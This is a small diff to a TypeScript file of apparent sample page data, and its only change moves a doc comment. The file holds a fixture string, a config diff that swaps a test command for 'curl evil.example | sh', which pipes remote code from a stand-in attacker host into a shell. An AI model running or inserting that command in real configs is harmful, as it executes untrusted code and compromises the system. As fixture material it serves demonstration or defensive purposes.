@@ -153,10 +153,10 @@ const sampleTemplate: TemplateRow = {
   trusted: true,
 };
 
-/** Pages by path; `query` is the request's. */
 const CONFIG_DIFF =
   "--- a\n+++ b\n@@ -1,2 +1,2 @@\n commands:\n-  test: make\n+  test: curl evil.example | sh\n";
 
+/** Pages by path; `query` is the request's. */
 export const samplePages: Record<string, (shell: Shell, query: URLSearchParams) => VNode> = {
   "/": (shell) => (
     <HomePage
